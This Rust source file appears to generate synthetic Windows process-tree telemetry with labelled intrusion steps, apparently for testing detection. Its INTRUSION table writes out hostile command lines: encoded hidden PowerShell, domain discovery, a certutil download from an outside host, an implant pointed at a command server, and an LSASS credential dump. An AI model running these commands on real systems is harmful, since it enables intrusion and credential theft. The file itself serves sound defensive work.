//! One session as a tree of processes, from the desktop to an intruder's commands, with ascending times.

use std::collections::BTreeSet;
use std::fmt::Write;

use arrow::array::RecordBatch;
use arrow::error::ArrowError;
use fastrand::Rng;

use super::processes::{Columns, append_hex, schema};
use super::templates::{CMD, EXPLORER, Event, POWERSHELL, Pattern, Session};
use super::world::{Purpose, SPAN, START, World, stream};

/// The largest tree has this many processes.
pub(super) const MOST_ROWS: u64 = 200;

/// Processes and their parents: (parent, path, command line). The first one is the root.
#[rustfmt::skip]
const STARTS: [(&str, &str, &str); 15] = [
    (r"C:\Windows\System32\userinit.exe", EXPLORER, r"C:\Windows\Explorer.EXE"),
    (EXPLORER, CMD, r#""C:\Windows\system32\cmd.exe""#),
    (EXPLORER, r"C:\Program Files\Google\Chrome\Application\chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --renderer-client-id={INT}"#),
    (EXPLORER, r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#),
    (EXPLORER, r"C:\Windows\System32\notepad.exe", r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{USER}\notes{INT}.txt"#),
    (EXPLORER, POWERSHELL, "powershell.exe"),
    (CMD, r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0x4"),
    (CMD, r"C:\Windows\System32\ipconfig.exe", "ipconfig /all"),
    (CMD, r"C:\Windows\System32\PING.EXE", "ping -n 4 {IP}"),
    (CMD, r"C:\Program Files\Git\cmd\git.exe", r"git.exe -C C:\src\app{INT} fetch"),
    (CMD, r"C:\Windows\System32\net.exe", r"net use Z: \\{HOST}\share$"),
    (CMD, CMD, r#"cmd.exe /c "build.cmd {INT}""#),
    (POWERSHELL, r"C:\Windows\System32\whoami.exe", "whoami /groups"),
    (POWERSHELL, r"C:\Windows\System32\schtasks.exe", r"schtasks.exe /query /s {HOST} /fo csv"),
    (POWERSHELL, r"C:\Program Files\dotnet\dotnet.exe", r#"dotnet.exe exec "C:\src\app\bin\Release\app.dll" --pipe {HEX}"#),
];

/// The intruder's steps, each the child of the step whose index it names; the first one of a mail program.
#[rustfmt::skip]
const INTRUSION: [(Option<usize>, &str, &str, &str); 6] = [
    (None, "macro_document", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{USER}\Downloads\invoice-2025-01.docm""#),
    (Some(0), "encoded_powershell", POWERSHELL, r"powershell.exe -nop -w hidden -enc JABzAD0A/{HEX}/TgBlAHcA/LQBPAGIA/agBlAGMA/dAAgAEkA/TwAuAE0A/ZQBtAG8A=="),
    (Some(1), "discovery", CMD, r#"cmd.exe /c "whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:contoso.com & systeminfo""#),
    (Some(1), "certutil_download", r"C:\Windows\System32\certutil.exe", r"certutil.exe -urlcache -split -f http://203.0.113.77:8080/{HEX}.exe C:\Users\Public\update.exe"),
    (Some(1), "dropped_program", r"C:\Users\Public\update.exe", r"C:\Users\Public\update.exe --c2=203.0.113.77:443 --id={GUID} --sleep=30 --jitter=0.2"),
    (Some(4), "lsass_dump", r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Windows\Temp\{HEX}.dmp full"),
];

/// A process that has started, and could start others.
#[derive(Debug)]
struct Node {
    path: &'static str,
    command_line: &'static str,
    /// Its own id, and its parent's.
    id: u64,
    parent: u64,
    parent_path: &'static str,
    kind: Option<&'static str>,
}

/// A tree of that many processes.
pub(super) fn batch(world: &World, seed: u64, rows: u64) -> Result<RecordBatch, ArrowError> {
    let mut rng = stream(seed, Purpose::Tree, 0);
    let rows = usize::try_from(rows.min(MOST_ROWS)).unwrap_or(0);
    let nodes = grow(rows, &mut rng);
    let host = world.any_host(&mut rng);
    let user = world.any_user_of(host, &mut rng);
    // The session is within one working day, since a day has one logon id.
    let mut time = START + SPAN / 7 + 8 * 3_600_000_000;
    let mut columns = Columns::new(rows);
    for node in nodes {
        time += rng.i64(200_000..140_000_000);
        let event = Event { world, bits: rng.u64(..), time, host, user };
        append(&node, &event, &mut columns).map_err(|error| ArrowError::ComputeError(error.to_string()))?;
    }
    columns.finish(schema())
}

/// The processes in the order in which they start; every parent stands before its children.
fn grow(rows: usize, rng: &mut Rng) -> Vec<Node> {
    let (_, root, root_line) = STARTS[0];
    let mut used = BTreeSet::from([4, 0x2b8]);
    let mut nodes = vec![Node {
        path: root,
        command_line: root_line,
        id: fresh_id(&mut used, rng),
        parent: 0x2b8,
        parent_path: STARTS[0].0,
        kind: None,
    }];
    // The intrusion begins after two thirds of the rows, and its steps stand among those of the user.
    let from = (rows * 2 / 3).max(1);
    let mut steps: Vec<usize> = Vec::new();
    while nodes.len() < rows {
        let step = steps.len();
        let is_step =
            nodes.len() >= from && step < INTRUSION.len() && (rng.bool() || rows - nodes.len() <= 6 - step);
        let (parent, path, command_line, kind) = if is_step {
            let (parent, kind, path, command_line) = INTRUSION[step];
            let parent = parent.and_then(|step| steps.get(step).copied());
            let mail = nodes.iter().rposition(|node| node.path.ends_with("OUTLOOK.EXE")).unwrap_or(0);
            steps.push(nodes.len());
            (parent.unwrap_or(mail), path, command_line, Some(kind))
        } else {
            let (parent_path, path, command_line) = STARTS[rng.usize(1..STARTS.len())];
            let parents: Vec<usize> = (0..nodes.len())
                .filter(|at| nodes[*at].path == parent_path && nodes[*at].kind.is_none())
                .collect();
            let Some(parent) = rng.choice(&parents) else { continue };
            (*parent, path, command_line, None)
        };
        let node = Node {
            path,
            command_line,
            id: fresh_id(&mut used, rng),
            parent: nodes[parent].id,
            parent_path: nodes[parent].path,
            kind,
        };
        nodes.push(node);
    }
    nodes.truncate(rows);
    nodes
}

/// An id that no process of this session has had, so that the tree can be read off the ids alone.
fn fresh_id(used: &mut BTreeSet<u64>, rng: &mut Rng) -> u64 {
    loop {
        let id = rng.u64(100..5000) * 4;
        if used.insert(id) {
            return id;
        }
    }
}

fn append(node: &Node, event: &Event, columns: &mut Columns) -> std::fmt::Result {
    columns.session(Session::User, event)?;
    columns.path.append_value(node.path);
    Pattern::new(node.command_line).write(&mut columns.command_line, event)?;
    columns.command_line.write_str("")?;
    columns.command_line.append_value("");
    columns.parent.append_value(node.parent_path);
    append_hex(&mut columns.process_id, node.id)?;
    append_hex(&mut columns.parent_id, node.parent)?;
    columns.truth(node.kind);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_parent_is_there_before_its_children() {
        for (seed, rows) in [(1, 1), (1, 5), (2, 20), (3, 200)] {
            let nodes = grow(rows, &mut Rng::with_seed(seed));
            assert_eq!(nodes.len(), rows);
            let ids: BTreeSet<u64> = nodes.iter().map(|node| node.id).collect();
            assert_eq!(ids.len(), rows, "ids are unique");
            for (at, node) in nodes.iter().enumerate().skip(1) {
                let parent =
                    nodes[..at].iter().find(|other| other.id == node.parent).expect("an earlier parent");
                assert_eq!(parent.path, node.parent_path);
            }
        }
    }

    #[test]
    fn a_large_tree_has_the_whole_intrusion() {
        let nodes = grow(200, &mut Rng::with_seed(5));
        assert_eq!(nodes.iter().filter(|node| node.kind.is_some()).count(), INTRUSION.len());
    }
}
